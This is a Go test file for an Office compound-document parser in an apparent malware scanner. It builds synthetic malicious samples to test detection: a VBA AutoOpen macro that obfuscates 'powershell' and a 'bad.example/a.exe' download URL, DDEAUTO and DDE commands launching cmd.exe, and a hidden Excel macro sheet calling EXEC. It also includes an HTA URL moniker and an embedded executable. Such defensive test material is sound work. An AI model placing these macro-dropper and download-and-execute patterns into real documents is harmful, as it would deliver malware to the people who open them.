package ole

import (
	"bytes"
	"context"
	"encoding/binary"
	"flag"
	"slices"
	"strings"
	"testing"

	"foregate/scan/file/internal/sample"
	"foregate/scan/file/tree"

	"pgregory.net/rapid"
)

var _ = flag.Bool("update", false, "write the golden files")

const evil = `Sub AutoOpen()
  Dim s
  s = "pow" & "ers" & "hell"
  u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & "://bad.example/a.exe"
  h = "68747470733a2f2f6576696c2e6578616d706c652f782e657865"
  Shell s & " -noprofile", vbHide
End Sub
Sub Ink_Painted()
End Sub
`

// workbookStream writes BIFF records: a hidden macro sheet that runs by itself
// and calls EXEC, a very hidden worksheet and a DDE link.
func workbookStream(encrypted bool) []byte {
	var b []byte
	rec := func(id uint16, data []byte) {
		b = binary.LittleEndian.AppendUint16(b, id)
		b = binary.LittleEndian.AppendUint16(b, uint16(len(data)))
		b = append(b, data...)
	}
	sheet := func(state, kind byte, name string) {
		rec(recSheet, append([]byte{0, 0, 0, 0, state, kind, byte(len(name)), 0}, name...))
	}
	rec(0x0809, make([]byte, 16))
	if encrypted {
		rec(recFilePass, make([]byte, 6))
	}
	sheet(0, 0, "Invoice")
	sheet(2, 0, "Data")
	sheet(1, 1, "Macro1")
	name := make([]byte, 15)
	name[0], name[3] = 0x21, 1
	rec(recName, append(name, 1))
	dde := "cmd\x03/c calc"
	rec(recSupBook, append([]byte{0, 0, byte(len(dde)), 0, 0}, dde...))
	formula := append(make([]byte, 20), 0, 0)
	tokens := append([]byte{0x17, 14, 0}, "cmd.exe /c dir"...)
	tokens = append(tokens, 0x42, 1, 0x6E, 0)
	binary.LittleEndian.PutUint16(formula[20:], uint16(len(tokens)))
	rec(recFormula, append(formula, tokens...))
	rec(0x0A, nil)
	return b
}

// wordStreams writes a document of one piece.
func wordStreams(text string) []sample.Stream {
	le := binary.LittleEndian
	doc := make([]byte, 0x400)
	le.PutUint16(doc, 0xA5EC)
	le.PutUint16(doc[0x0A:], 0x0200)
	raw := sample.UTF16(text)
	clx := []byte{2, 16, 0, 0, 0}
	clx = le.AppendUint32(clx, 0)
	clx = le.AppendUint32(clx, uint32(len(raw)/2))
	clx = append(clx, 0, 0)
	clx = le.AppendUint32(clx, uint32(len(doc)))
	clx = append(clx, 0, 0)
	le.PutUint32(doc[0x1A2:], 0)
	le.PutUint32(doc[0x1A6:], uint32(len(clx)))
	return []sample.Stream{{Path: "WordDocument", Data: append(doc, raw...)}, {Path: "1Table", Data: clx}}
}

func moniker(url string) []byte {
	u := sample.UTF16(url + "\x00")
	b := append(make([]byte, 20), urlMoniker...)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(u)))
	return append(b, u...)
}

func equationClass() [16]byte {
	return [16]byte{0x02, 0xCE, 0x02, 0x00, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}
}

// files are the samples, by the names of their golden files.
func files() map[string][]byte {
	text := "Please enable editing\r\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" \x14\x15 and \x13 HYPERLINK \"https://link.example/a\" \x14here\x15"
	doc := append(wordStreams(text), sample.VBA("Macros", nil, sample.Module{Name: "ThisDocument", Source: evil})...)
	doc = append(doc,
		sample.Stream{Path: "ObjectPool/_1/\x01Ole10Native", Data: sample.Native("bill.pdf", `C:\Users\op\invite.exe`, `C:\Users\op\AppData\Local\Temp\invite.exe`, []byte(sample.Marker))},
		sample.Stream{Path: "ObjectPool/_2/\x01Ole", Data: moniker("https://remote.example/x.hta")},
		sample.Stream{Path: "ObjectPool/_3/Equation Native", Data: make([]byte, 100)},
	)
	cache := append(make([]byte, 200), "\x00AutoOpen\x00 \x00URLDownloadToFileA\x00 \x00Shell\x00"...)
	return map[string][]byte{
		"word":      sample.Compound(doc, sample.Class{Path: "ObjectPool/_3", ID: equationClass()}),
		"excel":     sample.Compound([]sample.Stream{{Path: "Workbook", Data: workbookStream(false)}}),
		"excelpass": sample.Compound([]sample.Stream{{Path: "Workbook", Data: workbookStream(true)}}),
		"stomped":   sample.Compound(sample.VBA("Macros", cache, sample.Module{Name: "Module1", Source: "Sub Nothing()\r\nEnd Sub\r\n", PCode: make([]byte, 300)})),
		"eicar":     sample.Compound([]sample.Stream{{Path: "\x01Ole10Native", Data: sample.Native("eicar.com", `D:\eicar.com`, `D:\eicar.com`, sample.EICAR())}}),
		"large":     sample.Compound([]sample.Stream{{Path: "Package", Data: append([]byte("MZ"), make([]byte, 70000)...)}}),
	}
}

func TestGolden(t *testing.T) {
	for name, data := range files() {
		t.Run(name, func(t *testing.T) {
			sample.Golden(t, Parser{}, name, sample.Input(name+".doc", data))
		})
	}
}

func TestTorture(t *testing.T) {
	for name, data := range files() {
		if len(data) < 20000 {
			sample.Torture(t, Parser{}, name+".doc", data)
		}
	}
}

// The examples of [MS-OVBA] section 3.2.
func TestDecompress(t *testing.T) {
	for _, tt := range []struct {
		name, packed, want string
	}{
		{"normal", "\x01\x2f\xb0\x00\x23\x61\x61\x61\x62\x63\x64\x65\x82\x66\x00\x70\x61\x67\x68\x69\x6a\x01\x38\x08\x61\x6b\x6c\x00\x30\x6d\x6e\x6f\x70\x06\x71\x02\x70\x04\x10\x72\x73\x74\x75\x76\x10\x77\x78\x79\x7a\x00\x3c", "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"},
		{"most", "\x01\x03\xb0\x02\x61\x45\x00", strings.Repeat("a", 73)},
		{"none", "\x01\x19\xb0\x00abcdefgh\x00ijklmnop\x00qrstuv.", "abcdefghijklmnopqrstuv."},
	} {
		got, err := Decompress([]byte(tt.packed))
		if err != nil || string(got) != tt.want {
			t.Errorf("%s: %q, %v", tt.name, got, err)
		}
	}
	for _, bad := range []string{"", "\x02", "\x01\x00\x00", "\x01\x03\xb0\x01\x61\x45\x00"} {
		if out, err := Decompress([]byte(bad)); err == nil {
			t.Errorf("%q gave %q and no error", bad, out)
		}
	}
}

func TestCompressRoundTrip(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		data := []byte(strings.Repeat(rapid.StringN(0, 50, -1).Draw(t, "piece"), rapid.IntRange(0, 300).Draw(t, "times")))
		if len(data) == 0 {
			return
		}
		got, err := Decompress(sample.Compress(data))
		if err != nil || !bytes.Equal(got, data) {
			t.Fatalf("%d bytes became %d: %v", len(data), len(got), err)
		}
	})
}

// A compound file reads back what was written, at any size.
func TestCompoundRoundTrip(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		var streams []sample.Stream
		for i := range rapid.IntRange(1, 12).Draw(t, "streams") {
			path := string(rune('a'+i)) + "/stream"
			streams = append(streams, sample.Stream{Path: path, Data: bytes.Repeat([]byte{byte(i + 1)}, rapid.IntRange(0, 9000).Draw(t, "size"))})
		}
		c, err := OpenCompound(context.Background(), sample.Compound(streams))
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range streams {
			e := c.in("", s.Path)
			if e == nil {
				t.Fatalf("%s is lost", s.Path)
			}
			if got := c.Read(e, 1<<20); !bytes.Equal(got, s.Data) {
				t.Fatalf("%s: %d bytes became %d", s.Path, len(s.Data), len(got))
			}
		}
		if len(c.Defects) > 0 {
			t.Fatalf("defects %q", c.Defects)
		}
	})
}

func TestCycles(t *testing.T) {
	data := sample.Compound([]sample.Stream{{Path: "Package", Data: append([]byte("MZ"), make([]byte, 70000)...)}})
	// Every entry of the allocation table points to the first sector.
	loop := slices.Clone(data)
	fat := len(loop) - 2*512
	for i := fat; i < len(loop); i += 4 {
		binary.LittleEndian.PutUint32(loop[i:], 0)
	}
	c, err := OpenCompound(context.Background(), loop)
	if err == nil && len(c.Defects) == 0 {
		t.Error("a cyclic file has no defect")
	}
	// A directory whose root is its own child.
	self := slices.Clone(data)
	dir := 512 + 512*int(binary.LittleEndian.Uint32(self[48:]))
	binary.LittleEndian.PutUint32(self[dir+76:], 0)
	c, err = OpenCompound(context.Background(), self)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(c.Defects, "the directory is cyclic") {
		t.Errorf("defects %q", c.Defects)
	}
}

func TestBudget(t *testing.T) {
	in := sample.Input("big.doc", files()["large"])
	in.Budget.Bytes = 1000
	res, err := Parser{}.Open(context.Background(), in)
	if err == nil || len(res.Children) != 1 || res.Children[0].Data != nil {
		t.Errorf("over the budget: %v, %+v", err, res.Children)
	}
	if _, ok := res.Facts["oletools"]; !ok {
		t.Error("no facts beside the error")
	}
}

func FuzzOpen(f *testing.F) {
	for _, data := range files() {
		if len(data) < 20000 {
			f.Add(data)
		}
	}
	f.Add(sample.Agile([]byte("PK"), "VelvetSweatshop", 5))
	f.Fuzz(func(t *testing.T, data []byte) {
		in := &tree.Input{Name: "f", Data: data, Budget: tree.DefaultBudget()}
		if !(Parser{}).Opens(in) {
			return
		}
		res, _ := Parser{}.Open(t.Context(), in)
		sample.Check(t, res)
	})
}

func FuzzNative(f *testing.F) {
	f.Add(sample.Native("a", `C:\a.exe`, `C:\t\a.exe`, []byte("x")))
	f.Add(sample.Object("Package", sample.Native("a", "b", "c", nil)[4:]))
	f.Fuzz(func(t *testing.T, data []byte) {
		if p, ok := ParseNative(data); ok && len(p.Data) > len(data) {
			t.Fatalf("%d bytes out of %d", len(p.Data), len(data))
		}
		if o, ok := ParseObject(data); ok && len(o.Data) > len(data) {
			t.Fatalf("%d bytes out of %d", len(o.Data), len(data))
		}
		_, _ = Decompress(data)
		readWorkbook(t.Context(), data)
		_ = pieces(data, data)
		Monikers(data)
	})
}

func BenchmarkOpen(b *testing.B) {
	data := files()["word"]
	b.ReportAllocs()
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if _, err := (Parser{}).Open(b.Context(), sample.Input("word.doc", data)); err != nil {
			b.Fatal(err)
		}
	}
}
